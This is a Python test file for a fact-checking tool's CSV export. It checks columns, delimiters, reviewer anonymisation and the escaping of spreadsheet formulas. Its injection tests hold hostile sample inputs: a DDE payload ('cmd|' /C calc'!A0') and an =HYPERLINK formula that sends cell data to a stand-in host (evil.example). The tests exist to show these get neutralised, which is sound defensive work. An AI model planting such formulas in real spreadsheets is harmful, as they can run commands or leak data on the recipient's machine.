"""CSV export: read back with the csv module; formula injection neutralised in every cell."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from export_support import apply_plan, fix_clock, open_seeded
from factdesk.desk.notes import article_notes, fact_check_note
from factdesk.desk.service import Desk, DeskError
from factdesk.export import ExportScope, export_text
from factdesk.export.csv_format import COLUMNS, FORMULA_STARTS, neutralise


def read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def planned(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Desk:
    fix_clock(monkeypatch)
    desk = open_seeded(tmp_path / "csv.db", monkeypatch)
    apply_plan(desk)
    yield desk
    desk.close()


def test_one_row_per_claim_with_the_issue_columns(planned: Desk) -> None:
    text = export_text(planned, "csv").text
    rows = read_back(text)
    assert len(rows) == len(planned.claims())
    assert tuple(rows[0]) == COLUMNS
    assert text.endswith("\r\n") and "\r\n" in text.split("\n", 1)[0] + "\n"
    by_id = {int(row["claim_id"]): row for row in rows}
    for claim in planned.claims():
        row = by_id[claim.id]
        assert row["verdict"] == (claim.verdict or "")
        assert row["kind"] == claim.kind and row["sourcing"] == claim.sourcing


def test_note_and_evidence_agree_with_the_clipboard_note(planned: Desk) -> None:
    rows = {int(row["claim_id"]): row for row in read_back(export_text(planned, "csv").text)}
    article = planned.article(1)
    claims = planned.claims(1)
    first = claims[0]
    assert rows[first.id]["note"] == "Matches the ministry's published figures."
    assert rows[first.id]["evidence"].splitlines()[0] == "https://example.org/a?x=1"
    linked, where = planned.claims(2)[0], planned.article_summary(2)
    cited = rows[first.id]["evidence"].splitlines()[1]  # its article and words, never ids
    assert f"in “{where.title}”" in cited and cited.endswith(f": “{linked.text}”")
    assert f"claim {linked.id}" not in cited and f"article {where.id}" not in cited
    if where.url:
        assert where.url in cited
    for claim in claims:
        links = [line for line in rows[claim.id]["evidence"].splitlines() if "claim in" in line]
        assert rows[claim.id]["fact_check_note"] == fact_check_note(claim, article, links)
    clipboard = article_notes(claims[1:], article).text  # the plan reviews every one of these
    assert all(rows[claim.id]["fact_check_note"] in clipboard for claim in claims[1:4])


def test_formula_note_is_neutralised(planned: Desk) -> None:
    rows = read_back(export_text(planned, "csv", ExportScope(verdicts=("disputed",))).text)
    assert rows, "the plan disputes one claim per article"
    assert all(row["note"].startswith("'=SUM(A1)") for row in rows)
    assert all(row["verdict"] == "disputed" for row in rows)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_neutralise_each_formula_start(start: str) -> None:
    assert neutralise(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
    assert neutralise(f"safe {start}") == f"safe {start}"


def test_article_cannot_plant_a_formula(desk: Desk, tmp_path: Path) -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"click here for the full story")',
        "+1+1 cmd opens a calculator on the reviewer's machine",
        "-2+3 is another arithmetic formula that spreadsheets evaluate",
        "@SUM(1,1) runs a function in older spreadsheet programs",
    ]
    body = "=Headline that starts with an equals sign\n\n" + "\n\n".join(hostile) + "\n"
    source = tmp_path / "hostile.txt"
    source.write_text(body, encoding="utf-8")
    assert not desk.import_paths([source]).failed
    article = desk.articles()[0]
    for line in hostile:
        start = body.index(line)
        desk.set_verdict(desk.add_claim(article.id, start, start + len(line)).id, "disputed")
    with pytest.raises(DeskError, match="evidence"):  # evidence is a link: never a formula
        desk.set_note(desk.claims()[0].id, "\t=tabbed formula", ["=1+1", "@evil"])
    desk.set_note(desk.claims()[0].id, "\t=tabbed formula")
    rows = read_back(export_text(desk, "csv").text)
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    texts = {row["text"] for row in rows}
    assert {"'" + line for line in hostile} <= texts
    assert not any(row["note"].lstrip().startswith("=") for row in rows)


def test_excel_csv_has_a_bom_takes_a_delimiter_and_reads_back(
    planned: Desk, tmp_path: Path
) -> None:
    from factdesk.cli.entry import main

    claim = planned.claims()[0]
    planned.set_publication(claim.id, appearance_url="https://news.example/kupiansk—report")
    out = tmp_path / "sheet.csv"
    args = ["export", "--db", str(planned.path), "-o", str(out), "--excel", "--delimiter", ";"]
    assert main(args) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "—".encode() in raw
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))
    assert tuple(rows[0]) == COLUMNS and len(rows) == len(planned.claims())
    by_id = {int(row["claim_id"]): row for row in rows}
    assert by_id[claim.id]["article_url"] == "https://news.example/kupiansk—report"
    for each in planned.claims():
        row = by_id[each.id]
        assert row["verdict_at"] == ("2024-05-01T12:00:00Z" if each.verdict else "")
        if each.sourcing == "anonymous" or not each.speaker:
            assert row["claimant"] == "" and row["claimant_type"] == ""
        if row["claimant"]:
            assert row["claimant_type"] in ("person", "organisation")
        assert row["attribution_check"] == (each.attribution or "")
    assert any(row["claimant_type"] == "organisation" for row in rows)


@pytest.mark.parametrize(("given", "char"), [("\\t", "\t"), ("tab", "\t"), ("|", "|"), (",", ",")])
def test_delimiters_read_back(planned: Desk, given: str, char: str) -> None:
    from factdesk.export import export_options
    from factdesk.export.csv_format import parse_delimiter

    options = export_options(planned, delimiter=parse_delimiter(given))
    text = export_text(planned, "csv", options=options).text
    assert not text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=char))
    assert len(rows) == len(planned.claims()) and tuple(rows[0]) == COLUMNS


def test_a_bad_delimiter_is_one_line(planned: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    from factdesk.cli.entry import main

    with pytest.raises(SystemExit) as exit_:  # a usage error, as a wrong --format is
        main(["export", "--db", str(planned.path), "--delimiter", "::"])
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "delimiter '::'" in err


def test_anonymised_reviewers_in_csv_and_refused_for_a_merge_file(
    planned: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--anonymise-reviewers`` was the report's alone: a CSV sent out with it still named
    every reviewer's login, and JSON Lines too, without a word."""
    from factdesk.cli.entry import main

    db = str(planned.path)
    logins = {c.reviewer for c in planned.claims() if c.reviewer}
    assert logins
    assert main(["export", "--db", db, "--format", "csv", "--anonymise-reviewers"]) == 0
    rows = read_back(capsys.readouterr().out)
    shown = {row["reviewer"] for row in rows if row["reviewer"]}
    assert shown == {f"Reviewer {n}" for n in range(1, len(logins) + 1)}
    assert not any(login in row["reviewer"] for row in rows for login in logins)
    assert main(["export", "--db", db, "--format", "jsonl", "--anonymise-reviewers"]) == 1
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1 and "merge file" in err


def test_anonymised_exports_share_one_numbering_and_hide_logins_in_merged_notes(
    planned: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A colleague's note merged in begins with their login ("…\\n\\nyusuf: …"): an anonymised
    CSV sent it out as written, and numbered reviewers again in its own order, so "Reviewer 2"
    of the CSV could be "Reviewer 1" of the report from the same desk."""
    import re

    from factdesk.desk.merge import merge_file
    from factdesk.export import export_file
    from factdesk.export.options import ExportOptions

    colleague = open_seeded(tmp_path / "yusuf.db", monkeypatch, reviewer="yusuf")
    first = colleague.claims(2)[0]
    colleague.set_verdict(first.id, "corroborated")  # as ours: no conflict, notes joined
    colleague.set_note(first.id, "The table on page four counts tonnes, not units.", [])
    path = export_file(colleague, "jsonl", tmp_path / "yusuf.jsonl").path
    colleague.close()
    merge_file(planned, path)
    merged = planned.claim(first.id).note
    assert "\n\nyusuf: The table on page four" in merged or merged.startswith("The table")

    anonymous = ExportOptions(anonymise_reviewers=True)
    rows = read_back(export_text(planned, "csv", options=anonymous).text)
    report = export_text(planned, "markdown", options=anonymous).text
    leaks = [(k, v) for row in rows for k, v in row.items() if "yusuf" in v or "tester" in v]
    assert not leaks, leaks[0][1][-300:]
    assert "yusuf" not in report and "tester" not in report
    in_csv = {m for row in rows for m in re.findall(r"Reviewer \d+(?=: The table)", row["note"])}
    in_report = set(re.findall(r"Reviewer \d+(?=: The table)", report))
    assert len(in_csv) == 1 and in_csv == in_report, "the same number in both"
    row = next(row for row in rows if int(row["claim_id"]) == first.id)
    assert row["reviewer"] in {*in_csv, "Reviewer 1", "Reviewer 2"}
    named = ExportOptions(reviewers={"yusuf": "Yusuf Example"})
    assert "Yusuf Example: The table" in export_text(planned, "markdown", options=named).text
